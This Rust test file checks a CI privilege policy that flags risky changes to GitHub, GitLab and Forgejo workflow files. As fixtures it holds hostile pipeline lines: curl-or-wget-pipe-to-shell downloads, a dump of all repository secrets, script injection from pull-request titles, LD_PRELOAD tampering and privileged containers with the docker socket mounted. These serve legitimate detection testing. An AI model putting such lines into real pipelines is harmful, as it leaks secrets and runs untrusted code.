//! Realistic workflows, and what is said of a change of them.

use crate::policy::testing::*;

/// Judges one file by a rule with these keys; each finding without its path and effect.
fn said(keys: &str, path: &str, old: Option<&str>, new: Option<&str>) -> Vec<String> {
    let rule = with_rule(&format!("kind = \"ci-privilege\"\n{keys}"));
    let found = judge_files(&rule, &[(path, old.map(str::as_bytes), new.map(str::as_bytes))]);
    let plain = |line: String| line.replace(&format!("refuse r {path}"), "").trim_start_matches(':').to_owned();
    found.into_iter().map(plain).collect()
}

const CI: &str = "\
name: ci
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
      - name: Test
        run: cargo test
  publish:
    needs: [test]
    if: github.ref == 'refs/heads/main' && github.repository == 'acme/app'
    environment: release
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
      - name: Publish
        if: github.actor != 'dependabot[bot]'
        run: cargo publish
        env:
          CARGO_TOKEN: ${{ secrets.CARGO_TOKEN }}
";

#[test]
fn speaks_of_what_a_github_workflow_gains_and_loses() {
    // What is replaced by what, and what is said of it.
    let table: &[(&str, &str, &[&str])] = &[
        ("contents: read", "contents: write", &["7 the job's token may write `contents`"]),
        (
            "contents: read",
            "contents: read\n  id-token: write",
            &["8 `id-token: write` lets the job take on identities elsewhere (OIDC)"],
        ),
        ("permissions:\n  contents: read", "permissions: write-all", &["6 the job's token may write everything"]),
        (
            "permissions:\n  contents: read\n",
            "",
            &["7 without `permissions` a job's token gets the repository's default, which may be to write"],
        ),
        ("    permissions:\n      contents: write\n", "", &[]),
        (
            "  pull_request:\n",
            "  pull_request_target:\n",
            &[
                "5 `pull_request_target` starts the workflow with the repository's rights on what others do",
                "1 the workflow no longer runs on `pull_request`",
            ],
        ),
        ("    branches: [main]\n", "", &["3 the filter `branches` of `push` is gone"]),
        (
            "    branches: [main]\n",
            "    branches: [main, 'agent/**']\n",
            &["4 `branches` of `push` now lets `agent/**` through too"],
        ),
        (
            "  pull_request:\n",
            "  pull_request:\n  workflow_run:\n    workflows: [ci]\n",
            &["6 `workflow_run` starts the workflow with the repository's rights on what others do"],
        ),
        (
            "cargo publish\n",
            "cargo publish\n      - run: ./notify ${{ secrets.SLACK }} ${{ secrets['CARGO_TOKEN'] }}\n",
            &[
                "27 the secret `SLACK` is used here, and was not before",
                "27 the secret `CARGO_TOKEN` is used here, and was not before",
            ],
        ),
        ("cargo test\n", "echo '${{ toJSON(secrets) }}'\n", &["14 all secrets of the repository are handed out here"]),
        (
            "    runs-on: ubuntu-latest\n    steps",
            "    runs-on: [self-hosted, ubuntu-latest]\n    steps",
            &["10 the job runs on `self-hosted`, a runner that was not used here before"],
        ),
        (
            "    runs-on: ubuntu-latest\n    steps",
            "    runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-22.04, evil]\n    steps",
            &["13 the job runs on `evil`, a runner that was not used here before"],
        ),
        (
            "checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8",
            "checkout@v4",
            &["12 `actions/checkout@v4` is named by tag or branch, which its owner can move"],
        ),
        (
            "      - name: Test\n",
            "      - uses: acme/setup@main\n      - uses: ./local\n      - uses: docker://alpine:3\n      - name: Test\n",
            &[
                "13 `acme/setup@main` is named by tag or branch, which its owner can move",
                "15 the image `alpine:3` is named without a digest: it can change under its name",
            ],
        ),
        (
            "cargo test\n",
            "cargo test --features \"${{ github.event.pull_request.title }}\"\n",
            &["14 `${{ github.event.pull_request.title }}` in a script runs as code what somebody else wrote"],
        ),
        (
            "run: cargo test\n",
            "run: |\n          set -e\n          echo ${{ github.head_ref }}\n          curl -sSf https://example.com/i | sh\n",
            &[
                "16 `${{ github.head_ref }}` in a script runs as code what somebody else wrote",
                "warn r .github/workflows/ci.yml:17 a download is run without being looked at",
            ],
        ),
        (
            "    if: github.ref == 'refs/heads/main' && github.repository == 'acme/app'\n",
            "",
            &[
                "15 the job `publish` no longer has the condition `github.ref == 'refs/heads/main'`",
                "15 the job `publish` no longer has the condition `github.repository == 'acme/app'`",
            ],
        ),
        (
            " && github.repository == 'acme/app'",
            "",
            &["15 the job `publish` no longer has the condition `github.repository == 'acme/app'`"],
        ),
        (
            " && github.repository == 'acme/app'",
            " || github.repository == 'acme/app'",
            &[
                "15 the job `publish` no longer has the condition `github.ref == 'refs/heads/main'`",
                "15 the job `publish` no longer has the condition `github.repository == 'acme/app'`",
            ],
        ),
        (
            "github.ref == 'refs/heads/main' && github.repository == 'acme/app'",
            "always()",
            &[
                "17 the job `publish` runs although what it needs has failed",
                "15 the job `publish` no longer has the condition `github.ref == 'refs/heads/main'`",
                "15 the job `publish` no longer has the condition `github.repository == 'acme/app'`",
            ],
        ),
        (
            "        if: github.actor != 'dependabot[bot]'\n",
            "",
            &["24 the step `Publish` no longer has the condition `github.actor != 'dependabot[bot]'`"],
        ),
        (
            "name: Publish\n        if: github.actor != 'dependabot[bot]'\n",
            "name: Release\n",
            &["24 the step `Publish` no longer has the condition `github.actor != 'dependabot[bot]'`"],
        ),
        (
            "    environment: release\n",
            "",
            &["15 the job `publish` no longer runs in the environment `release`, with its approvals"],
        ),
        ("    needs: [test]\n", "", &["15 the job `publish` no longer waits for `test`"]),
        (
            "        run: cargo test\n",
            "        run: cargo test\n        continue-on-error: true\n",
            &["15 the step `Test` no longer fails when it fails"],
        ),
        (
            "        run: cargo test\n",
            "        if: false\n        run: cargo test\n",
            &["14 the step `Test` never runs any more"],
        ),
        ("  test:\n", "  tests:\n", &["1 the job `test` is gone, and what it checks with it"]),
        (
            "    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n      - name: Test",
            "    container:\n      image: node:20\n      options: --privi\\\"\\\"leged --network host\n      volumes: [/var/run/docker.sock:/var/run/docker.sock, cache:/c]\n    services:\n      db: postgres:16\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n      - name: Test",
            &[
                "12 the image `node:20` is named without a digest: it can change under its name",
                "13 the container gets `--privileged`, which lets it reach out of itself",
                "13 the container gets `--network`, which lets it reach out of itself",
                "14 the container gets `/var/run/docker.sock:/var/run/docker.sock`, which lets it reach out of itself",
                "16 the image `postgres:16` is named without a digest: it can change under its name",
            ],
        ),
        (
            "permissions:\n  contents: read\n",
            "permissions:\n  contents: read\nenv:\n  LD_PRELOAD: ./x.so\n  NODE_OPTIONS: --max-old-space-size=4096\n",
            &["9 `LD_PRELOAD` changes what every program of the job does"],
        ),
        (
            "run: cargo test\n",
            "run: echo \"T=$TITLE\" >> $GITHUB_ENV\n        env:\n          TITLE: ${{ github.event.issue.title }}\n",
            &["14 `$TITLE` holds what somebody else wrote, and this script writes to GITHUB_ENV"],
        ),
        (
            "run: cargo test\n",
            "run: echo \"BASH_ENV=x.sh\" >> \"$GITHUB_ENV\"\n",
            &["14 `BASH_ENV` changes what every later program of the job does"],
        ),
        (
            "run: cargo test\n",
            "run: cargo test\n        run: evil\n",
            &["15 the file has a key for the second time, so it cannot be judged"],
        ),
        ("name: ci\n", "name: ci # a comment\n", &[]),
        ("run: cargo test\n", "run: cargo test --all\n", &[]),
        ("name: ci\n", "name: [ci\n", &["2 the file is no valid YAML here, so it cannot be judged"]),
    ];
    for (from, to, expected) in table {
        let new = CI.replacen(from, to, 1);
        assert!(new != CI, "{from}");
        assert_eq!(said("", ".github/workflows/ci.yml", Some(CI), Some(&new)), *expected, "{to}");
    }
}

const GITLAB: &str = "\
stages: [test, deploy]
include:
  - local: ci/common.yml
  - project: acme/ci
    ref: v1
    file: base.yml
variables:
  API_TOKEN_NAME: x
.deploy:
  rules:
    - if: $CI_COMMIT_BRANCH == 'main'
    - when: never
  tags: [deployer]
test:
  image: node:20
  stage: test
  script:
    - npm test
  only: [main, merge_requests]
deploy:
  extends: .deploy
  stage: deploy
  image: registry.example.com/deploy:1
  when: manual
  environment: {name: production}
  script:
    - ./deploy $API_TOKEN_NAME $DEPLOY_TOKEN
";

#[test]
fn speaks_of_what_a_gitlab_file_gains_and_loses() {
    // What is replaced by what, and what is said of it.
    let table: &[(&str, &str, &[&str])] = &[
        (
            "  - local: ci/common.yml\n",
            "  - local: ci/common.yml\n  - local: ci/more.yml\n  - local: /.gitlab/ci/x.yml\n  - x.gitlab-ci.yml\n",
            &["4 `ci/more.yml` is included, and its name is not one that is looked into"],
        ),
        (
            "  - local: ci/common.yml\n",
            "  - remote: https://example.com/ci.yml\n  - https://example.com/b.yml\n",
            &[
                "3 `https://example.com/ci.yml` is included: whoever serves it decides what runs",
                "4 `https://example.com/b.yml` is included: whoever serves it decides what runs",
            ],
        ),
        ("ref: v1", "ref: main", &["4 files of the project `acme/ci` at `main` are included"]),
        ("ref: v1", "ref: 08c6903cd8c0fde910a37f88322edcfb5dd907a8", &[]),
        (
            "  - local: ci/common.yml\n",
            "  - component: example.com/a/b@1\n  - template: Jobs/SAST.gitlab-ci.yml\n",
            &["3 the component `example.com/a/b@1` is included"],
        ),
        ("node:20", "node:22", &[]),
        (
            "node:20",
            "evil/node:20",
            &["15 the image `evil/node:20` is named without a digest: it can change under its name"],
        ),
        (
            "    - if: $CI_COMMIT_BRANCH == 'main'\n",
            "    - if: $CI_COMMIT_BRANCH\n",
            &[
                "11 the job `deploy` runs in a case more: `if: $CI_COMMIT_BRANCH` of `rules`",
                "10 the job `deploy` no longer has `if: $CI_COMMIT_BRANCH == 'main'` in its `rules`",
            ],
        ),
        ("    - when: never\n", "", &["10 the job `deploy` no longer has `when: never` in its `rules`"]),
        (
            "  rules:\n    - if: $CI_COMMIT_BRANCH == 'main'\n    - when: never\n",
            "",
            &["17 the job `deploy` no longer has `rules`"],
        ),
        ("  only: [main, merge_requests]\n", "", &["14 the job `test` no longer has `only`"]),
        (
            "[main, merge_requests]",
            "[main, merge_requests, branches]",
            &["19 the job `test` runs in a case more: `branches` of `only`"],
        ),
        ("[main, merge_requests]", "[main]", &["19 the job `test` no longer has `merge_requests` in its `only`"]),
        ("  tags: [deployer]\n", "", &["19 the job `deploy` no longer asks for a runner with the tag `deployer`"]),
        (
            "  tags: [deployer]\n",
            "  tags: [other]\n",
            &[
                "13 the job asks for a runner with the tag `other`, which was not used here before",
                "20 the job `deploy` no longer asks for a runner with the tag `deployer`",
            ],
        ),
        (
            "  stage: test\n",
            "  stage: test\n  tags: [saas-linux-small-amd64]\n  allow_failure: true\n",
            &["18 the job `test` no longer fails when it fails"],
        ),
        ("  stage: test\n", "  stage: test\n  when: manual\n", &["17 the job `test` no longer runs by itself"]),
        ("  when: manual\n", "", &["20 the job `deploy` no longer waits for a person to start it"]),
        (
            "{name: production}",
            "{name: staging}",
            &["20 the job `deploy` no longer runs in the environment `production`, with its approvals"],
        ),
        (
            "    - npm test\n",
            "    - npm test --token=$NPM_TOKEN $API_TOKEN_NAME $CI_JOB_TOKEN $CACHE_KEY\n",
            &["18 the variable `NPM_TOKEN` is named like a secret, is used here, and was not before"],
        ),
        (
            "    - npm test\n",
            "    - bash -c \"echo $CI_COMMIT_MESSAGE\"\n    - echo \"$CI_COMMIT_TITLE\"\n",
            &["18 `$CI_COMMIT_MESSAGE` in a text that is evaluated runs as code what somebody else wrote"],
        ),
        (
            "    - npm test\n",
            "    - |\n      set -e\n      eval \"$CI_MERGE_REQUEST_TITLE\"\n      wget -qO- https://example.com/i | bash\n",
            &[
                "20 `$CI_MERGE_REQUEST_TITLE` in a text that is evaluated runs as code what somebody else wrote",
                "warn r .gitlab-ci.yml:21 a download is run without being looked at",
            ],
        ),
        (
            "  stage: test\n",
            "  stage: test\n  services: ['docker:24-dind']\n",
            &[
                "17 the image `docker:24-dind` is named without a digest: it can change under its name",
                "17 docker in docker needs a privileged runner, from which a job can get out",
            ],
        ),
        (
            "  stage: test\n",
            "  stage: test\n  id_tokens:\n    T:\n      aud: https://example.com\n",
            &["18 `id_tokens` gives the job an identity elsewhere: `T`"],
        ),
        (
            "  stage: test\n",
            "  stage: test\n  secrets:\n    DB: {vault: a/b@c}\n",
            &["18 the secret `DB` is fetched here, and was not before"],
        ),
        (
            "stages: [test, deploy]\n",
            "stages: [test, deploy]\nchild:\n  trigger:\n    project: acme/other\nmore:\n  trigger:\n    include:\n      - remote: https://example.com/x.yml\n",
            &[
                "3 a pipeline of the project `acme/other` is started",
                "8 `https://example.com/x.yml` is included: whoever serves it decides what runs",
            ],
        ),
        (
            "  API_TOKEN_NAME: x\n",
            "  API_TOKEN_NAME: x\n  LD_PRELOAD: ./x.so\n",
            &["9 `LD_PRELOAD` changes what every program of the job does"],
        ),
        ("test:\n  image", "tests:\n  image", &["1 the job `test` is gone, and what it checks with it"]),
        (
            "  stage: test\n",
            "  stage: test\n  stage: test\n",
            &["17 the file has a key for the second time, so it cannot be judged"],
        ),
        ("    - npm test\n", "    - npm ci\n    - npm test\n  before_script: [ls]\n", &[]),
        ("stages: [test, deploy]\n", "spec:\n  inputs: {a: {}}\n---\nstages: [test, deploy]\n", &[]),
        (
            "stages: [test, deploy]\n",
            "a: b\n---\nstages: [test, deploy]\n",
            &["3 the file has another document, which not all read, so it cannot be judged"],
        ),
    ];
    for (from, to, expected) in table {
        let new = GITLAB.replacen(from, to, 1);
        assert!(new != GITLAB, "{from}");
        assert_eq!(said("", ".gitlab-ci.yml", Some(GITLAB), Some(&new)), *expected, "{to}");
    }
}

const TARGET: &str = "\
on: [pull_request_target, workflow_dispatch]
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
      - run: make
";

const WORKFLOW: &str = ".github/workflows/a.yml";

fn edit(from: &str, to: &str) -> String {
    let edited = TARGET.replacen(from, to, 1);
    assert_ne!(edited, TARGET, "{from}");
    edited
}

#[test]
fn speaks_of_checkouts_calls_actions_and_defaults() {
    let co = edit(
        "      - run: make",
        "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: gh pr checkout 1",
    );
    let table: Vec<(&str, Vec<String>, &[&str])> = vec![
        (
            "checkout",
            said("", WORKFLOW, Some(TARGET), Some(&co)),
            &[
                "9 `${{ github.event.pull_request.head.sha }}` brings a stranger's code into a run that has the repository's rights",
                "10 `gh pr checkout 1` brings a stranger's code into a run that has the repository's rights",
            ],
        ),
        ("checkout under pull_request", said("", WORKFLOW, None, Some(&co.replace("_target", ""))), &[]),
        (
            "to target",
            said("", WORKFLOW, Some(&co.replace("_target", "")), Some(&co)),
            &[
                "1 `pull_request_target` starts the workflow with the repository's rights on what others do",
                "9 `${{ github.event.pull_request.head.sha }}` brings a stranger's code into a run that has the repository's rights",
                "10 `gh pr checkout 1` brings a stranger's code into a run that has the repository's rights",
                "1 the workflow no longer runs on `pull_request`",
            ],
        ),
        (
            "base",
            said(
                "",
                WORKFLOW,
                Some(TARGET),
                Some(&edit("      - run: make", "        with: {ref: main}\n      - run: make")),
            ),
            &[],
        ),
        (
            "inherit",
            said(
                "",
                WORKFLOW,
                Some(TARGET),
                Some(&edit(
                    "  a:\n",
                    "  b:\n    uses: acme/ci/.github/workflows/x.yml@v1\n    secrets: inherit\n  a:\n",
                )),
            ),
            &[
                "5 `acme/ci/.github/workflows/x.yml@v1` is named by tag or branch, which its owner can move",
                "6 `secrets: inherit` hands all secrets of the repository to the called workflow",
            ],
        ),
        (
            "forgejo",
            said(
                "",
                ".forgejo/workflows/a.yml",
                None,
                Some(
                    "on: push\njobs:\n  a:\n    runs-on: docker\n    steps:\n      - uses: https://code.example.com/actions/checkout@v4\n      - run: echo ${{ gitea.event.head_commit.message }}\n",
                ),
            ),
            &[
                "4 the job runs on `docker`, a runner that was not used here before",
                "6 `https://code.example.com/actions/checkout@v4` is named by tag or branch, which its owner can move",
                "7 `${{ gitea.event.head_commit.message }}` in a script runs as code what somebody else wrote",
            ],
        ),
        (
            "action",
            said(
                "",
                "tools/Action.YML",
                None,
                Some(
                    "inputs:\n  name: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo ${{ inputs.name }}\n    - uses: actions/cache@v4\n",
                ),
            ),
            &[
                "7 `${{ inputs.name }}` in a script runs as code what somebody else wrote",
                "8 `actions/cache@v4` is named by tag or branch, which its owner can move",
            ],
        ),
        (
            "docker action",
            said("", "tools/action.yml", None, Some("runs:\n  using: docker\n  image: docker://alpine:3\n")),
            &["3 the image `alpine:3` is named without a digest: it can change under its name"],
        ),
        (
            "inputs",
            said(
                "",
                WORKFLOW,
                None,
                Some(
                    "on:\n  workflow_dispatch:\n    inputs:\n      dry: {type: boolean}\n      name: {type: string}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04-arm\n    steps:\n      - run: echo ${{ inputs.dry }} ${{ inputs.name }}\n",
                ),
            ),
            &["11 `${{ inputs.name }}` in a script runs as code what somebody else wrote"],
        ),
        (
            "reusable",
            said(
                "",
                WORKFLOW,
                None,
                Some("on: workflow_call\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n"),
            ),
            &[],
        ),
        (
            "default",
            said(
                "",
                WORKFLOW,
                None,
                Some(
                    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n  b:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n",
                ),
            ),
            &["3 without `permissions` a job's token gets the repository's default, which may be to write"],
        ),
        (
            "anchors",
            said(
                "",
                WORKFLOW,
                Some(TARGET),
                Some(&edit("      - run: make", "      - &x\n        run: echo ${{ github.head_ref }}\n      - *x")),
            ),
            &["9 `${{ github.head_ref }}` in a script runs as code what somebody else wrote"],
        ),
        (
            "new job inherits",
            said(
                "",
                WORKFLOW,
                Some(&edit("{}", "{contents: write}")),
                Some(&edit(
                    "{}\njobs:",
                    "{contents: write}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]",
                )),
            ),
            &[],
        ),
        (
            "new job asks",
            said(
                "",
                WORKFLOW,
                Some(TARGET),
                Some(&edit(
                    "jobs:",
                    "jobs:\n  b:\n    permissions: {packages: write, contents: read}\n    runs-on: ubuntu-latest\n    steps: [{run: make}]",
                )),
            ),
            &["5 the job's token may write `packages`"],
        ),
    ];
    for (what, found, expected) in table {
        assert_eq!(found, expected, "{what}");
    }
}

#[test]
fn judges_what_the_policy_names_and_speaks_of_what_it_cannot_read() {
    let table: Vec<(&str, Vec<String>, &[&str])> = vec![
        (
            "runners",
            said("runners = [\"acme-*\"]", WORKFLOW, None, Some(TARGET)),
            &[
                "1 `pull_request_target` starts the workflow with the repository's rights on what others do",
                "5 the job runs on `ubuntu-latest`, which the policy does not list",
            ],
        ),
        (
            "actions",
            said("actions = [\"acme/*\"]", WORKFLOW, None, Some(&edit("      - run: make", "      - uses: acme/x@v1"))),
            &[
                "1 `pull_request_target` starts the workflow with the repository's rights on what others do",
                "7 `actions/checkout` is not among the actions the policy allows",
            ],
        ),
        (
            "what",
            said("what = [\"runner\"]", WORKFLOW, None, Some(&edit("ubuntu-latest", "mine"))),
            &["5 the job runs on `mine`, a runner that was not used here before"],
        ),
        (
            "shell-download",
            said(
                "what = \"shell-download\"",
                WORKFLOW,
                Some(TARGET),
                Some(&edit("run: make", "run: curl https://example.com/i | sh")),
            ),
            &["8 a download is run without being looked at"],
        ),
        ("match", said("match = [\"**\", \"!.github/workflows/a.yml\"]", WORKFLOW, None, Some(TARGET)), &[]),
        (
            "match other",
            said("match = [\"ci/*.yml\"]", "ci/a.yml", None, Some(TARGET)),
            &["1 `pull_request_target` starts the workflow with the repository's rights on what others do"],
        ),
        (
            "match other gitlab",
            said("match = [\"ci/*.yml\"]", "ci/a.yml", None, Some("x:\n  tags: [big]\n  script: [ls]\n")),
            &["2 the job asks for a runner with the tag `big`, which was not used here before"],
        ),
        ("match other nothing", said("match = [\"ci/*.yml\"]", "ci/a.yml", None, Some("x: 1\n")), &[]),
        ("not ci", said("", "src/a.yml", None, Some(TARGET)), &[]),
        (
            "case",
            said("", ".GitHub/Workflows/a.YML", None, Some(TARGET)),
            &["1 `pull_request_target` starts the workflow with the repository's rights on what others do"],
        ),
        (
            "broken",
            said("", WORKFLOW, Some("a: ["), Some("b: [")),
            &["2 the file is no valid YAML here, so it cannot be judged"],
        ),
        (
            "flaw stays",
            said(
                "",
                WORKFLOW,
                Some(&edit("jobs:", "name: a\nname: b\njobs:")),
                Some(&edit("jobs:", "name: a\nname: b\n# x\njobs:")),
            ),
            &[],
        ),
        (
            "ignored",
            said(
                "",
                WORKFLOW,
                Some("on:\n  push:\n    branches-ignore: [a, 'agent/**']\npermissions: {}\njobs: {}\n"),
                Some("on:\n  push:\n    branches-ignore: [a]\npermissions: {}\njobs: {}\n"),
            ),
            &["2 `branches-ignore` of `push` no longer leaves out `agent/**`"],
        ),
        (
            "too large",
            said("", WORKFLOW, None, Some(&"# large\n".repeat(150_000))),
            &["1 the file is too large to be parsed (1048576 bytes at most), so it cannot be judged"],
        ),
        (
            "many jobs",
            said(
                "",
                WORKFLOW,
                None,
                Some(&format!("on: push\njobs:\n{}", (0..1001).map(|n| format!("  j{n}: {{}}\n")).collect::<String>())),
            ),
            &["3 the file has a mapping with more than 1000 keys, so it cannot be judged"],
        ),
    ];
    for (what, found, expected) in table {
        assert_eq!(found, expected, "{what}");
    }
}

#[test]
fn a_new_file_asks_for_all_it_has_and_a_deleted_one_checks_nothing() {
    let github = ".github/workflows/ci.yml";
    let expected =
        ["21 the job's token may write `contents`", "28 the secret `CARGO_TOKEN` is used here, and was not before"];
    assert_eq!(said("", github, None, Some(CI)), expected);
    let expected = [
        "3 `ci/common.yml` is included, and its name is not one that is looked into",
        "4 files of the project `acme/ci` at `v1` are included",
        "15 the image `node:20` is named without a digest: it can change under its name",
        "27 the variable `DEPLOY_TOKEN` is named like a secret, is used here, and was not before",
        "23 the image `registry.example.com/deploy:1` is named without a digest: it can change under its name",
        "13 the job asks for a runner with the tag `deployer`, which was not used here before",
    ];
    assert_eq!(said("", ".gitlab-ci.yml", None, Some(GITLAB)), expected);
    for (path, old) in [(github, CI), (".gitlab-ci.yml", GITLAB)] {
        for new in [None, Some(""), Some("# nothing\n")] {
            assert_eq!(said("", path, Some(old), new), [" the workflow is gone, and what it checks with it"]);
        }
        assert!(said("", path, Some(old), Some(&format!("# a comment\n{old}"))).is_empty());
    }
    assert!(said("", "tools/action.yml", Some("runs: {using: composite, steps: []}"), None).is_empty());
}

#[test]
fn a_move_to_another_name_is_no_news_but_a_link_is() {
    let (ci, broken): (&[u8], &[u8]) = (CI.as_bytes(), b"a: [");
    let rule = with_rule("kind = \"ci-privilege\"");
    let judge =
        |from: &str, to: &str, text| judge_files(&rule, &[(from, Some(text), None), (to, None, Some(text))]).len();
    assert_eq!(judge(".github/workflows/a.yml", ".github/workflows/b.yml", ci), 1, "what was there is gone");
    assert_eq!(judge(".github/workflows/a.yml", ".forgejo/workflows/a.yml", ci), 3, "another reader");
    assert_eq!(judge("src/a.yml", ".github/workflows/a.yml", ci), 2, "nobody read it there");
    assert_eq!(judge(".github/workflows/a.yml", ".github/workflows/b.yml", broken), 1);

    for (path, entry) in [(".github/workflows/a.yml", SYMLINK), (".github", SYMLINK)] {
        let mut memory = Memory::default();
        let id = memory.add(b"x");
        let new = Some(crate::model::Entry { mode: entry, id });
        let link = crate::model::Change { new, size: Some(1), ..symlink(path, "x") };
        let found = judge_examined(&rule, one(vec![link]), &memory, b"");
        let expected =
            format!("refuse r {path} a link stands where the forge looks for workflows, and cannot be judged");
        assert!(found.contains(&expected), "{found:?}");
    }
}

#[test]
fn a_merge_speaks_of_what_is_new_against_every_parent() {
    let rule = with_rule("kind = \"ci-privilege\"");
    let wider = CI.replacen("contents: read", "contents: write", 1);
    let both = wider.replacen("run: cargo test", "run: cargo test ${{ github.head_ref }}", 1);
    let judge = |olds: &[Option<&str>], new: &str| {
        let mut memory = Memory::default();
        let mut file = |text: &str| crate::model::Entry { mode: FILE, id: memory.add(text.as_bytes()) };
        let old = olds.iter().map(|old| old.map(&mut file)).collect();
        let change = crate::model::Change {
            old,
            new: Some(file(new)),
            size: Some(new.len() as u64),
            ..change(".github/workflows/ci.yml")
        };
        judge_examined(&rule, one(vec![change]), &memory, b"").len()
    };
    assert_eq!(judge(&[Some(CI), Some(&wider)], &both), 1);
    assert_eq!(judge(&[Some(&wider), Some(CI)], &both), 1);
    assert_eq!(judge(&[Some(CI), Some(CI)], &both), 2);
    assert_eq!(judge(&[None, Some(&wider)], &both), 1, "a side without the file does not make all of it new");
    assert_eq!(judge(&[], &wider), 2, "the first commit");
}

#[test]
fn settings_that_cannot_be_meant_are_errors() {
    use crate::policy::Policy;
    for keys in
        ["what = []", "what = [\"secret\"]", "runners = []", "actions = [\" \"]", "match = [\"!a\"]", "labels = 1"]
    {
        let text = with_rule(&format!("kind = \"ci-privilege\"\n{keys}"));
        assert!(Policy::parse("policy.toml", &text).is_err(), "{keys}");
    }
}
